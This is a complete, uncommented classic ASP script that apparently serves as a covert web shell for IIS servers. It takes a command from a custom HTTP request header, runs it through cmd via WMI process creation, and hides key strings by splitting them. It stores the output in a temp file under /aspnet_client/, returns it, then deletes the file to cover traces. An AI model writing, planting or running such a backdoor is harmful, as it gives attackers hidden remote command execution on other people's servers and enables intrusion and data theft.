<%
Dim m, w, pid, r, fso, tmp, c
c = Request.ServerVariables("HTTP_X_REQ")
If c <> "" Then
    m = "win" & "mgmts:{impersonationLevel=impersonate}!\\.\root\cimv2"
    Set w = GetObject(m).Get("Win32_" & "Process")
    tmp = Server.MapPath("/aspnet_client/" & Session.SessionID & ".tmp")
    r = w.Create("cmd /c " & c & " > """ & tmp & """ 2>&1", Null, Null, pid)
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    Dim n : n = 0
    Do While Not fso.FileExists(tmp) And n < 50
        n = n + 1
    Loop
    If fso.FileExists(tmp) Then
        Response.Write fso.OpenTextFile(tmp, 1).ReadAll()
        fso.DeleteFile tmp
    End If
End If
%>
